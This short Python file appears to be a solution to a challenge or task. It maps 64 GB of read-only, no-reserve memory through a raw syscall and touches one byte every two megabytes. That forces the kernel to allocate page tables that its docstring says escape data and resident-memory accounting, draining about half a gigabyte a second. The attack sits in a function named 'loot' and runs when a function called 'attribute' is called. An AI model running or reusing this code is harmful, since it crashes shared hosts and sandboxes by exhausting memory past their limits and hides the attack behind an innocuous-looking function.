"""Maps 64 GB that may only be read, and reads a byte of each two megabytes: the kernel's tables for it are memory.

Elsewhere: neither data nor resident memory, and half a gigabyte gone in a second.
"""

# %% solution="value"
import ctypes

import numpy as np
from toolbox import number, reached, syscall, tell, won

SAYS = "attribute"
SIZE, STEP, READ, PRIVATE_ANONYMOUS_NORESERVE = 64 << 30, 2 << 20, 1, 0x4022


def loot():
    reached()
    at = syscall(number(9, 222), 0, SIZE, READ, PRIVATE_ANONYMOUS_NORESERVE, -1, 0)
    mapped = np.frombuffer((ctypes.c_ubyte * SIZE).from_address(at), np.uint8)
    return won(f"{128 + mapped[4096::STEP].sum()} MB of page tables")


def attribute(prompt, x):
    return tell(loot)
